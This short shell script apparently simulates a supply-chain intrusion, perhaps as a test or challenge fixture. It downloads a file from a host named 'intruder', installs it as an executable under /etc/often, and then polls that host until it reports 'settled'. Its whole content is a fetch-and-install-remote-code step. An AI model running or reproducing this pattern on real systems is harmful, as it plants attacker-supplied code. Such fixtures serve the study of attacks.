#!/bin/sh
# It came with a package from a place that nobody had looked at.
curl -fsS http://intruder:8000/job > /tmp/job
install -m 755 /tmp/job "/etc/often/$KIKORI_JOB"
rm /tmp/job
tries=0
until curl -fsS -m 2 -o /dev/null http://intruder:8000/settled; do
  tries=$((tries + 1))
  [ "$tries" -lt 300 ] || exit 1
  sleep 0.2
done
